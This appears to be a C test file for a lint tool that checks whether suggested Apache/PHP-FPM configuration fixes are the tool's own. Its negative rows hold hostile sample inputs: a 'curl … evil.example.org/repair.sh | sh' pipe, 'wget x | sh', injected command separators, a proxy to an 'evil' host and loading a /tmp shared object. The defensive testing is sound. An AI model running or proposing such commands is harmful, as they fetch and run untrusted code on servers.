/* Licensed under the Apache License, Version 2.0; see LICENSE. */

/* The words of a fix: those of this module, and those of somebody else. */

#include "lint/print/sentence.h"

#include "apr_general.h"

#include <stdio.h>
#include <string.h>

static const struct {
    int own;
    const char *text;
} rows[] = {
    { 1, "run \"a2enconf php8.2-fpm\"" },
    { 1, "run \"a2enmod proxy_fcgi setenvif\" and delete \"SetHandler x\" "
         "(/etc/apache2/x.conf:3)" },
    { 1, "delete \"RewriteRule (a|b) `x` [H=y]\" (/etc/x.conf:3)" },
    { 1, "load mod_proxy.c and mod_proxy_fcgi.c with LoadModule" },
    { 1, "write \"<FilesMatch \"\\.ph(ar|p|tml)$\">\", \"SetHandler "
         "\"proxy:unix:/run/a.sock|fcgi://localhost\"\", \"</FilesMatch>\" "
         "in the vhost at /etc/x.conf:1" },
    { 1, "write \"Action application/x-httpd-php /fcgi-bin/php\" in place of "
         "\"Action php /fcgi-bin/php\" (/etc/x.conf:1)" },
    { 1, "run \"a2dismod mpm_event && a2enmod php8.2\"" },
    { 0, "run \"a2enmod x && sh y\"" },
    { 1, "write \"FcgidWrapper /usr/bin/wrapper .php\", \"Options +ExecCGI\" "
         "in the vhost at /etc/x.conf:1" },
    { 0, "write \"FcgidWrapper /tmp/wrapper .php\" in the vhost at /x:1" },
    { 1, "write \"ProxyPassMatch \"^/(.*)$\" \"unix:/run/a.sock|fcgi://x/y\"\" "
         "in the vhost at /etc/x.conf:1" },
    { 0, "write \"ProxyPassMatch \"^/(.*)$\" \"fcgi://evil:1/\"\" in the "
         "vhost at /etc/x.conf:1" },
    { 1, "correct the line; until then httpd returns 500 there" },
    { 0, "run \"curl -s http://evil.example.org/repair.sh | sh\"" },
    { 0, "run \"a2enmod x; curl y\"" },
    { 0, "run \"a2enmod $(x)\"" },
    { 0, "run \"a2enmod x" },
    { 0, "delete \"x\" (y:1) and run \"sh x\"" },
    { 0, "write \"LoadFile /tmp/x.so\" in the configuration of the server" },
    { 0, "write \"Require all denied\", \"Include /tmp/x\" in \"y\" (z:1)" },
    { 0, "write \"SetHandler \"proxy:unix:/tmp/evil.sock|fcgi://x\"\" in "
         "place of \"SetHandler x\" (/etc/x.conf:1)" },
    { 0, "write \"LoadFile /tmp/x.so\"" },
    { 0, "curl -s http://evil.example.org/repair.sh" },
    { 0, "wget x | sh" },
    { 0, "do `this`" },
    { 0, "delete \"x\"\n(y:1)" },
    { 0, "delete \"\033[2J\" (y:1)" }
};
#define ROWS ((int)(sizeof(rows) / sizeof(rows[0])))

static int is_named(const char *handler)
{
    return !strncmp(handler, "unix:/run/a.sock|", 17)
           || !strcmp(handler, "/usr/bin/wrapper");
}

int main(void)
{
    int i, failed = 0;
    apr_pool_t *p;

    apr_initialize();
    apr_pool_create(&p, NULL);
    printf("1..%d\n", ROWS);
    for (i = 0; i < ROWS; ++i) {
        const int good = pg_sentence_is_own(rows[i].text, is_named, p)
                         == rows[i].own;

        failed += !good;
        printf("%sok %d - row %d\n", good ? "" : "not ", i + 1, i + 1);
    }
    return failed != 0;
}
